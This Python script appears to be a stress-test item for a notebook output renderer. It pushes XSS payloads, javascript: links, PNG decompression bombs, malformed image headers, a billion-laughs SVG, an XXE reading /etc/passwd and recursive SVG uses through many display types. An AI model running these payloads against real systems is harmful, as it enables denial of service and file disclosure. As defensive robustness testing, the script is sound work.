# attack: displays of every kind there is, with what each could carry: scripts, widgets, charts, mathematics, films, pages, entities, huge pictures
# limit: 10
# ends: done
import base64, struct, zlib
from IPython.display import publish_display_data
evil = "<img src=x onerror=alert(1)><script>alert(1)</script>"
for mime in ("application/javascript", "text/javascript", "application/json", "application/vnd.vega.v5+json", "application/vnd.vegalite.v4+json",
             "application/vnd.plotly.v1+json", "application/vnd.jupyter.widget-view+json", "application/geo+json", "application/pdf", "video/mp4",
             "audio/wav", "text/latex", "text/markdown", "application/xhtml+xml", "text/xml", "image/bmp", "image/x-icon", "image/tiff", "text/css",
             "application/vnd.buildalong.steps+json", "application/vnd.buildalong.plots+json", "application/x-buildalong-drawing", "multipart/x-mixed-replace"):
    for value in (evil, [evil], {"html": evil, "model_id": evil}, "[" * 5000, None, 7, "\\href{javascript:alert(1)}{x}", "[x](javascript:alert(1)) ![x](http://127.0.0.1:8999/)"):
        try:
            publish_display_data({mime: value, "text/plain": "plain"})
        except Exception as e:
            print(type(e).__name__)
def png(width, height, rows=1):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    packer = zlib.compressobj(9)
    row = b"\0" * (1 + (width + 7) // 8)
    data = b"".join(packer.compress(row) for _ in range(rows)) + packer.flush()
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
for width, height, rows in ((30_000, 30_000, 200), (2_000_000_000, 1, 1), (1, 2_000_000_000, 1), (0, 0, 1), (65_535, 16_000, 500)):
    publish_display_data({"image/png": base64.b64encode(png(min(width, 30_000), height, rows) if width <= 30_000 else png(1, 1).replace(struct.pack(">II", 1, 1), struct.pack(">II", width, height))).decode()})
publish_display_data({"image/gif": base64.b64encode(b"GIF89a\xff\xff\xff\xff\0\0\0" + evil.encode()).decode()})
publish_display_data({"image/webp": base64.b64encode(b"RIFF\0\0\0\0WEBPVP8X" + b"\xff" * 40).decode()})
publish_display_data({"image/jpeg": base64.b64encode(b"\xff\xd8\xff\xc0\0\x11\x08\xff\xff\xff\xff\x03" + b"\0" * 40).decode()})
laughs = '<?xml version="1.0"?><!DOCTYPE s [<!ENTITY a "aaaaaaaaaa">%s]><svg xmlns="http://www.w3.org/2000/svg"><text>&j;</text></svg>'
publish_display_data({"image/svg+xml": laughs % "".join('<!ENTITY %s "%s">' % (b, ("&%s;" % a) * 10) for a, b in zip("abcdefghi", "bcdefghij"))})
publish_display_data({"image/svg+xml": '<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'})
uses = "".join('<g id="g%d">%s</g>' % (n, ('<use href="#g%d"/>' % (n - 1)) * 10) for n in range(1, 10))
publish_display_data({"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg"><defs><g id="g0"><rect width="9" height="9"/></g>%s</defs><use href="#g9"/></svg>' % uses})
print("done")
